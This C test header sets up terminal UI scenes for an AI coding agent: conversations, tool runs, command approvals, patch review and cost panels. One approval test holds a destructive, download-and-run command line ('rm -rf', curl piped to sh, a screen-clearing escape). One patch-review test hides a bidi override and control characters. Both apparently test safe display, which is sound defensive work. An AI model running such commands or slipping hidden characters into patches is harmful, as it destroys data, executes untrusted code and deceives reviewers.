/* What a user gets to see, as scenes made by events and keys: a conversation, a
 * review, a question, lists, panels. Each function fills an empty scene. */
#ifndef KERF_TESTS_UI_STAGES_H
#define KERF_TESTS_UI_STAGES_H

#include "kerf/ui/figures.h"
#include "samples.h"
#include "scene.h"

// --- the conversation --------------------------------------------------------

#define STAGE_ANSWER                                                          \
    "The loop never counts attempts, so a peer that stays unwritable keeps "  \
    "one core busy. I bounded it with `max_tries` and sleep through "         \
    "`poll`.\n\n"                                                             \
    "1. **retry.c**: a counter, and a pause\n"                                \
    "2. **conf.h**: the option, see [the manual](https://example.org/conf)\n" \
    "\n```c\nint tries = 0;\nwhile (send(fd) < 0 && ++tries < 5)\n"           \
    "    poll(&p, 1, 50);\n```\n\n"                                           \
    "| file | lines |\n|---|---:|\n| retry.c | 12 |\n| conf.h | 1 |\n"

static inline void stage_tool(struct scene *scene, size_t index, const char *id,
                              const char *tool, const char *arguments)
{
    scene_item(scene, index, ITEM_CALL, id, tool);
    scene_item_done(scene, index, ITEM_CALL, id, tool, arguments);
}

static inline void stage_tool_ran(struct scene *scene, const char *id,
                                  const char *output, int status)
{
    scene_apply(scene, (struct event){ .kind = EVENT_TOOL_STARTED,
                                       .call_id = str_from(id) });
    scene->wall_ms += 1300;
    scene_apply(scene, (struct event){ .kind = EVENT_TOOL_DONE,
                                       .call_id = str_from(id),
                                       .text = str_from(output),
                                       .number = status,
                                       .flag = status <= 0 });
}

static inline void stage_question(struct scene *scene)
{
    scene_open(scene);
    scene_ask(scene, "why does retry spin on EAGAIN? bound it and add a test "
                     "@src/net/retry.c @tests/t_retry.c");
}

static inline void stage_conversation(struct scene *scene)
{
    scene_apply(scene, (struct event){ .kind = EVENT_CONTEXT_ADDED,
                                       .name = STR("make"),
                                       .text = STR("cc -c retry.c\n1\n2\n3\n4\n"
                                                   "5\n6\n7\nretry.c:6: error: "
                                                   "no such function\n"),
                                       .number = 2 });
    stage_question(scene);
    scene_item(scene, 0, ITEM_REASONING, "r", "");
    scene_delta(scene, EVENT_REASONING_DELTA, 0, "first this, then that");
    scene_item_done(scene, 0, ITEM_REASONING, "r", "", "first this, then that");
    stage_tool(scene, 1, "c1", "read_file", "{\"path\":\"src/net/retry.c\"}");
    stage_tool(scene, 2, "c2", "shell", "{\"command\":\"make -j2 check\"}");
    scene_item(scene, 3, ITEM_TEXT, "m1", "");
    scene_delta(scene, EVENT_TEXT_DELTA, 3, STAGE_ANSWER);
    scene_item_done(scene, 3, ITEM_TEXT, "m1", "", STAGE_ANSWER);
    scene_completed(scene);
    stage_tool_ran(scene, "c1", SAMPLE_RETRY, -1);
    stage_tool_ran(scene, "c2",
                   "cc -c a.c\ncc -c b.c\ncc -c c.c\ncc -c d.c\ncc -c e.c\n"
                   "t_retry: 3 of 4 passed\nmake: *** [check] Error 1\n",
                   2);
    scene_turn_done(scene);
}

static inline void stage_streaming(struct scene *scene)
{
    stage_question(scene);
    scene_item(scene, 0, ITEM_TEXT, "m1", "");
    scene_delta(scene, EVENT_TEXT_DELTA, 0, STAGE_ANSWER);
    scene_delta(scene, EVENT_TEXT_DELTA, 0,
                "\nAnd now the test, which waits for a line that");
    scene->wall_ms += 900;
    ui_set_draft(scene->ui, STR("and keep the old name of the option"));
}

static inline void stage_reasoning(struct scene *scene)
{
    stage_question(scene);
    scene_item(scene, 0, ITEM_REASONING, "r", "");
    scene_delta(scene, EVENT_REASONING_DELTA, 0,
                "The user asks why the loop spins. send() returns EAGAIN while "
                "the peer's window is closed; nothing waits there.");
    scene_draw(scene);
    scene_keys(scene, "^O");
}

static inline void stage_tool_folded(struct scene *scene)
{
    stage_question(scene);
    stage_tool(scene, 0, "c1", "shell", "{\"command\":\"make -j2 check\"}");
    scene_completed(scene);
    stage_tool_ran(scene, "c1",
                   "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\nt_retry: 3 of 4 passed\n",
                   1);
}

static inline void stage_tool_unfolded(struct scene *scene)
{
    stage_tool_folded(scene);
    scene_draw(scene);
    scene_keys(scene, "^O");
}

static inline void stage_tool_running(struct scene *scene)
{
    stage_question(scene);
    stage_tool(scene, 0, "c1", "shell", "{\"command\":\"make -j2 check\"}");
    scene_completed(scene);
    scene_apply(scene, (struct event){ .kind = EVENT_TOOL_STARTED,
                                       .call_id = STR("c1") });
    scene_draw(scene);
    scene->wall_ms += 12300;
    scene_apply(
        scene, (struct event){ .kind = EVENT_TOOL_OUTPUT,
                               .call_id = STR("c1"),
                               .text = STR("1\n2\n3\n4\n5\ncc -c retry.c\n") });
}

static inline void stage_notices(struct scene *scene)
{
    stage_question(scene);
    scene_apply(scene, (struct event){
                           .kind = EVENT_NOTICE,
                           .text = STR("wafer-a answers slowly: 900 ms to the "
                                       "first token, the target is 400 ms; "
                                       "gpu-a answers from now on"),
                           .flag = true });
    scene_apply(scene,
                (struct event){ .kind = EVENT_NOTICE,
                                .text = STR("src/net/retry.c was changed "
                                            "by another program") });
    scene_apply(scene, (struct event){ .kind = EVENT_LINK,
                                       .state = LINK_LOST,
                                       .text = STR("connection reset") });
    scene_apply(scene,
                (struct event){ .kind = EVENT_RESPONSE_FAILED,
                                .name = STR("rate_limit_exceeded"),
                                .text = STR("Rate limit reached for spark: try "
                                            "again in 20 s"),
                                .number = 429 });
    scene_apply(scene, (struct event){ .kind = EVENT_TURN_DONE,
                                       .state = TURN_FAILED,
                                       .text = STR("rate limit reached for "
                                                   "spark in organization "
                                                   "acme: try again in 20 s, "
                                                   "or ask for more") });
    ui_tell(scene->ui, STR("the draft was put away"), false);
}

static inline void stage_wide_text(struct scene *scene)
{
    scene_open(scene);
    scene_ask(scene, "\xe6\xbc\xa2\xe5\xad\x97\xe3\x81\x8b\xe3\x81\xaa: why?");
    scene_item(scene, 0, ITEM_TEXT, "m1", "");
    scene_delta(scene, EVENT_TEXT_DELTA, 0,
                "\xe6\xbc\xa2\xe5\xad\x97 \xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f"
                "\x94\xac \xf0\x9f\x87\xa9\xf0\x9f\x87\xaa \xe2\x9d\xa4\xef\xb8"
                "\x8f e\xcc\x81 \xce\xb1\xce\xb2\n\n"
                "| \xe6\xbc\xa2 | b |\n|---|---|\n| c | \xed\x95\x9c |\n");
    ui_set_draft(scene->ui, STR("\xe6\xbc\xa2\xe5\xad\x97 \xe2\x9d\xa4\xef\xb8"
                                "\x8f"));
}

static inline void stage_first_builtin(struct scene *scene)
{
    scene_apply(scene, (struct event){ .kind = EVENT_SESSION_OPENED,
                                       .id = STR("s1"),
                                       .name = STR("/home/u/net") });
    scene_apply(scene, (struct event){ .kind = EVENT_REPO,
                                       .name = STR("main"),
                                       .extra = STR("1") });
    scene_apply(scene, (struct event){ .kind = EVENT_BACKEND,
                                       .name = STR("sim"),
                                       .text = STR("fixit"),
                                       .number = 128000,
                                       .flag = true });
    scene_apply(scene, (struct event){ .kind = EVENT_LINK,
                                       .state = LINK_READY,
                                       .text = STR("ws") });
}

// --- the composer ------------------------------------------------------------

static inline void stage_paste(struct scene *scene)
{
    stage_conversation(scene);
    scene_type(scene, "see ");
    scene_paste(scene, "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n13\n14\n15\n");
    scene_type(scene, " and tell me");
}

static inline void stage_long_draft(struct scene *scene)
{
    stage_conversation(scene);
    ui_set_draft(scene->ui,
                 STR("one\ntwo\nthree\nfour\nfive\nsix\nseven\neight\nnine\n"
                     "ten\na line that is so long that it has to be broken at "
                     "one of its blanks, and again on a narrow screen, so\n"));
}

static inline void stage_search(struct scene *scene)
{
    stage_conversation(scene);
    ui_remember(scene->ui, STR("rename the option"));
    ui_remember(scene->ui, STR("bound the loop"));
    scene_draw(scene);
    scene_keys(scene, "^R o p t");
}

static inline void stage_vi_normal(struct scene *scene)
{
    stage_conversation(scene);
    scene_type(scene, "change the option");
    scene_keys(scene, "Esc b");
}

static inline void stage_finder(struct scene *scene)
{
    static const struct str files[] = {
        { "src/net/retry.c", 15 },     { "src/net/conf.h", 14 },
        { "src/net/send.c", 14 },      { "tests/t_retry.c", 15 },
        { "include/net/retry.h", 19 },
    };

    stage_conversation(scene);
    ui_set_files(scene->ui, files, sizeof(files) / sizeof(files[0]));
    scene_draw(scene);
    scene_keys(scene, "l o o k Space @ r e");
}

static inline void stage_commands(struct scene *scene)
{
    stage_conversation(scene);
    scene_draw(scene);
    scene_keys(scene, "/");
}

static inline void stage_palette(struct scene *scene)
{
    stage_conversation(scene);
    scene_draw(scene);
    scene_keys(scene, "^X : f o");
}

static inline void stage_chords(struct scene *scene)
{
    stage_conversation(scene);
    scene_draw(scene);
    scene_keys(scene, "^X ?");
}

static inline void stage_picker(struct scene *scene)
{
    static const struct ui_choice choices[] = {
        { { "wafer-a", 7 }, { "wafer-a", 7 }, { "spark  ws  in use", 17 }, 0 },
        { { "gpu-a", 5 }, { "gpu-a", 5 }, { "large  http", 11 }, 0 },
        { { "sim", 3 }, { "sim", 3 }, { "built in", 8 }, 0 },
    };

    stage_conversation(scene);
    scene_draw(scene);
    ui_pick(scene->ui, "backend", choices, 3, CMD_BACKEND);
}

static inline void stage_queue(struct scene *scene)
{
    static const char *const texts[] = {
        "rename it",
        "second\nline",
        ("and keep the old name as an alias that prints a warning once a "
         "day"),
    };

    stage_streaming(scene);
    ui_set_draft(scene->ui, STR(""));
    for (size_t i = 0; i < 3; i++)
        scene_apply(scene, (struct event){ .kind = EVENT_QUEUED,
                                           .text = str_from(texts[i]) });
    scene_draw(scene);
    scene_keys(scene, "^X q");
}

// --- the question about a command --------------------------------------------

static inline void stage_approval(struct scene *scene)
{
    scene_open(scene);
    scene_approval(scene, "make -j2 check");
}

static inline void stage_approval_danger(struct scene *scene)
{
    scene_open(scene);
    scene_approval(scene, "cd build &&\nrm -rf ../out\tx; curl http://a/b.sh | "
                          "sh # \033[2J and a line that is too long for every "
                          "narrow screen there is, by far, and goes on");
}

static inline void stage_approval_long(struct scene *scene)
{
    struct buf command = { 0 };

    scene_open(scene);
    for (int i = 1; i <= 60; i++)
        buf_printf(&command, "echo step %d\n", i);
    scene_approval(scene, buf_cstr(&command));
    buf_release(&command);
}

static inline void stage_approval_reason(struct scene *scene)
{
    stage_approval(scene);
    scene_draw(scene);
    scene->now_ms += 1000;
    scene_keys(scene, "n u s e Space n i n j a");
}

// --- the pager, help, panels -------------------------------------------------

static inline void stage_pager(struct scene *scene)
{
    stage_conversation(scene);
    scene_draw(scene);
    scene_keys(scene, "^T");
}

static inline void stage_pager_search(struct scene *scene)
{
    stage_pager(scene);
    scene_keys(scene, "/ r e t r y");
}

static inline void stage_pager_found(struct scene *scene)
{
    stage_pager_search(scene);
    scene_keys(scene, "Enter");
}

static inline void stage_help(struct scene *scene)
{
    stage_conversation(scene);
    scene_draw(scene);
    scene_keys(scene, "F1");
}

static inline void stage_figures(struct scene *scene)
{
    static struct backend_figures backends[] = {
        { .name = { "wafer-a", 7 },
          .ttft_p50 = 170,
          .ttft_p95 = 450,
          .ttft_p99 = 900,
          .ttft_target = 400,
          .speed_p50 = 2080,
          .speed_target = 1000,
          .recent_ttft = { 100, 200, 400, 300, 170, 160 },
          .recent_speed = { 1000, 2000, 500, 2100, 2200, 2000 },
          .recent_count = 6,
          .asked = 9,
          .failed = 1 },
        { .name = { "gpu-a", 5 },
          .ttft_p50 = 610,
          .ttft_p95 = 1450,
          .ttft_p99 = 2900,
          .speed_p50 = 118,
          .recent_ttft = { 610 },
          .recent_speed = { 118 },
          .recent_count = 1,
          .asked = 1 },
    };
    static const struct str route[] = {
        { "wafer-a: 31k tokens fit into 128k", 33 },
        { "gpu-a: slower (p95 1450 ms)", 27 },
    };
    static const struct figures figures = {
        .backends = backends,
        .backend_count = 2,
        .today_usd = 1.25,
        .project_usd = 8,
        .project_days = 14,
        .budget_usd = 2,
        .day_budget_usd = 5,
        .input = 3000000,
        .cached = 1500000,
        .output = 1000000,
        .route = route,
        .route_count = 2,
    };

    stage_conversation(scene);
    ui_set_figures(scene->ui, &figures);
    scene_draw(scene);
}

static inline void stage_latency(struct scene *scene)
{
    stage_figures(scene);
    scene_keys(scene, "^X l");
}

static inline void stage_cost(struct scene *scene)
{
    stage_figures(scene);
    scene_keys(scene, "^X $");
}

static inline void stage_context(struct scene *scene)
{
    stage_figures(scene);
    scene_keys(scene, "^X c");
}

static inline void stage_route(struct scene *scene)
{
    stage_figures(scene);
    scene_keys(scene, "^X r");
}

static inline void stage_verify(struct scene *scene)
{
    stage_figures(scene);
    scene_keys(scene, "^X v");
}

// --- the review --------------------------------------------------------------

static inline void stage_review_files(struct scene *scene)
{
    scene_file(scene, "p1", 0, SAMPLE_RETRY);
    scene_file(scene, "p1", 1, NULL);
    scene_file(scene, "p1", 2, SAMPLE_CONF);
    scene_draw(scene);
    scene->now_ms += 1000;
}

// The patch of a model, whole; the conversation is beside it where there is
// room.
static inline void stage_review(struct scene *scene)
{
    stage_question(scene);
    scene_item(scene, 0, ITEM_TEXT, "m1", "");
    scene_item_done(scene, 0, ITEM_TEXT, "m1", "",
                    "The loop never counts attempts; I bounded it.\n");
    scene_item(scene, 1, ITEM_PATCH, "p1", "apply_patch");
    scene_item_done(scene, 1, ITEM_PATCH, "p1", "apply_patch", SAMPLE_PATCH);
    scene_completed(scene);
    stage_review_files(scene);
}

static inline void stage_review_arriving(struct scene *scene)
{
    stage_question(scene);
    scene_item(scene, 0, ITEM_PATCH, "p1", "apply_patch");
    scene_delta(scene, EVENT_CALL_DELTA, 0,
                "*** Begin Patch\n*** Update File: src/net/retry.c\n"
                "@@ int net_send(\n     int rc;\n-    while (send(fd) < 0)\n"
                "-        ;\n+    int tries = 0;\n");
    scene_file(scene, "p1", 0, SAMPLE_RETRY);
    scene_draw(scene);
    scene->now_ms += 1000;
}

static inline void stage_review_summary(struct scene *scene)
{
    stage_review(scene);
    scene_keys(scene, "y Tab");
}

static inline void stage_review_unified(struct scene *scene)
{
    stage_review(scene);
    scene_keys(scene, "j j j");
}

static inline void stage_review_sides(struct scene *scene)
{
    stage_review(scene);
    scene_keys(scene, "|");
}

static inline void stage_review_lines(struct scene *scene)
{
    stage_review(scene);
    scene_keys(scene, "v j v j");
}

static inline void stage_review_notes(struct scene *scene)
{
    stage_review(scene);
    scene_keys(scene, "j j j c");
    scene_type(scene, "use cfg_get() here, cfg may be NULL in the test");
    scene_keys(scene, "Enter");
    scene_obey(scene);
    scene_keys(scene, "j c");
    scene_type(scene, "a second one, still being typed");
    scene_draw(scene);
}

static inline void stage_review_conflict(struct scene *scene)
{
    stage_review(scene);
    scene_keys(scene, "]");
}

static inline void stage_review_inspect(struct scene *scene)
{
    stage_review_conflict(scene);
    scene_keys(scene, "i");
}

static inline void stage_review_whole_file(struct scene *scene)
{
    stage_review(scene);
    scene_keys(scene, "o");
}

static inline void stage_review_search(struct scene *scene)
{
    stage_review(scene);
    scene_keys(scene, "/ t r i e s");
}

static inline void stage_review_ask_all(struct scene *scene)
{
    stage_review(scene);
    scene_keys(scene, "A");
}

static inline void stage_review_decided(struct scene *scene)
{
    stage_review(scene);
    scene_keys(scene, "y");
    scene_obey(scene);
    scene_keys(scene, "n");
    scene_obey(scene);
    scene_keys(scene, "y");
    scene_obey(scene);
    scene_keys(scene, "w");
}

static inline void stage_review_hidden(struct scene *scene)
{
    scene_open(scene);
    scene_patch(scene,
                "*** Begin Patch\n*** Update File: src/conf.h\n@@\n"
                "-#define A 1\n"
                "+#define A 2 // \xe2\x80\xae evil \xe2\x80\x8b \033[2J\n"
                "*** End Patch\n");
    scene_file(scene, "p1", 0, SAMPLE_CONF);
    scene_draw(scene);
    scene->now_ms += 1000;
    scene_keys(scene, "y");
}

static inline void stage_review_written(struct scene *scene)
{
    stage_review(scene);
    scene_keys(scene, "y");
    scene_obey(scene);
    scene_apply(scene, (struct event){ .kind = EVENT_WRITTEN,
                                       .call_id = STR("p1"),
                                       .id = STR("w1"),
                                       .text = STR("M src/net/retry.c\n") });
    scene_draw(scene);
    scene->now_ms += 1000;
}

static inline void stage_review_many_files(struct scene *scene)
{
    struct buf patch = { 0 };

    scene_open(scene);
    buf_printf(&patch, "*** Begin Patch\n");
    for (int i = 1; i <= 12; i++)
        buf_printf(&patch,
                   "*** Add File: src/a/very/deep/folder/of/files/number_%d.c\n"
                   "+int f%d(void);\n",
                   i, i);
    buf_printf(&patch, "*** End Patch\n");
    scene_patch(scene, buf_cstr(&patch));
    for (size_t i = 0; i < 12; i++)
        scene_file(scene, "p1", i, NULL);
    buf_release(&patch);
    scene_draw(scene);
    scene->now_ms += 1000;
}

#endif
